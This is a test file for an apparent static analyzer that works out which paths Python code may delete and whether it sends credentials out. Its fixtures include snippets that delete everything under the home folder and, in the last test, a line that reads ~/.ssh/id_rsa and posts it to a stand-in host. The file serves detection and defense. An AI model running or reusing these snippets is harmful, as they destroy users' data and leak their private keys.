import { expect, test } from 'vitest';
import { LABEL } from '../js/labels.ts';
import { analyzePython } from './facts.ts';

/** What the deletions of a source are known to delete. */
function deleted(source: string): string[] {
  const { fileActions } = analyzePython(`import glob, os, shutil\nfrom pathlib import Path\n${source}`);
  return fileActions.filter(({ operation }) => operation === 'delete').flatMap(({ paths }) => paths);
}

test.each([
  ['os.scandir', 'for entry in os.scandir(root): os.remove(entry.path)', '~/a/$UNKNOWN'],
  ['an entry of it', 'for entry in os.scandir(root): os.remove(entry)', '~/a/$UNKNOWN'],
  ['glob', 'for path in glob.glob(root + "/*.log"): os.remove(path)', '~/a/*.log'],
  ['iglob', 'for path in glob.iglob(root + "/*"): os.remove(path)', '~/a/*'],
  ['listdir', 'for name in os.listdir(root): os.remove(os.path.join(root, name))', '~/a/$UNKNOWN'],
  ['iterdir', 'for path in Path(root).iterdir(): path.unlink()', '~/a/$UNKNOWN'],
])('what a folder lists has its path: %s', (_what, loop, path) => {
  expect(deleted(`root = os.path.expanduser("~/a")\n${loop}\n`)).toEqual([path]);
  // And through an attribute of an object.
  const method = loop.replaceAll('root', 'self.root');
  const type = `class S:\n  def __init__(self, root): self.root = root\n  def run(self):\n    ${method}\n`;
  expect(deleted(`${type}S(os.path.expanduser("~/a")).run()\n`)).toEqual([path]);
});

test.each([
  ['Path("~", ".cache", "own")', '~/.cache/own'],
  ['Path(os.getenv("XDG_CACHE_HOME") or "~/.cache", "own").expanduser()', '$XDG_CACHE_HOME/own'],
  ['Path("~", "/tmp", "own")', '/tmp/own'],
])('a path is made of all its parts: %s', (path, expected) => {
  expect(deleted(`shutil.rmtree(${path})\n`)).toEqual([expected]);
});

test('the name of an entry is no path', () => {
  expect(deleted('for entry in os.scandir("/a"): os.remove(entry.name)\n')).toEqual(['$UNKNOWN']);
});

test('a table holds functions by their names', () => {
  const rules = 'RULES = {}\ndef rule(f):\n  RULES[f.__name__] = f\n  return f\n';
  const own = '@rule\ndef wipe(root): shutil.rmtree(root)\nRULES["wipe"]("/a")\n';
  expect(deleted(rules + own)).toEqual(['/a']);
});

test.each([
  ['by a branch', 'if guard():\n  root = Path("/tmp/own")\nelse:\n  root = Path.home()\n'],
  ['by a condition', 'root = Path("/tmp/own") if guard() else Path.home()\n'],
  ['by a function', 'def at():\n  if guard(): return Path("/tmp/own")\n  return Path.home()\nroot = at()\n'],
])('what may be one of two folders is either: %s', (_how, root) => {
  expect(deleted(`${root}for path in root.iterdir(): shutil.rmtree(path)\n`)).toContain('~/$UNKNOWN');
  expect(deleted(`${root}(root / "a").unlink()\n`)).toContain('~/a');
  expect(deleted(`${root}for path in root.glob("*"): path.unlink()\n`)).toContain('~/*');
});

test('what a function does to one folder is not what it does to the next', () => {
  const sweep = 'def sweep(root):\n  for path in root.glob("*"): path.unlink()\n';
  expect(deleted(`${sweep}sweep(Path("/tmp/own"))\nsweep(Path.home())\n`)).toEqual(['/tmp/own/*', '~/*']);
});

test('an item of a list that holds others as well may be any of its paths', () => {
  const roots = 'roots = [Path(p) for p in given()] + [Path("/a"), Path("/b")]\n';
  expect(deleted(`${roots}for path in roots: path.unlink()\n`)).toEqual(['$UNKNOWN', '/a', '/b']);
});

test('what is read may be the content of any of the files that a path means', () => {
  const source =
    'from pathlib import Path\nimport requests\nfor p in [Path(x) for x in given()] + [Path("~/.ssh/id_rsa")]:\n  requests.post("https://a.weir.test", p.read_text())\n';
  expect((analyzePython(source).flow.flows[0]?.labels ?? 0) & LABEL.credential).toBe(LABEL.credential);
});
